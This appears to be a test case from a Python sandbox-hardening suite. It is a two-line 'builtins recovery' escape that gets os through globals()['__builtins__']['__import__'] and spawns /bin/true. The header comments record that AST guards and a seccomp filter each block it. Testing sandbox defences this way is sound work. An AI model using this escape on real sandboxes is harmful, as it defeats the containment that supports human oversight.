# attack: builtins recovery
# stops: guards: variable 'globals' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# globals() and the __builtins__ it holds
os = globals()["__builtins__"]["__import__"]("os")
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
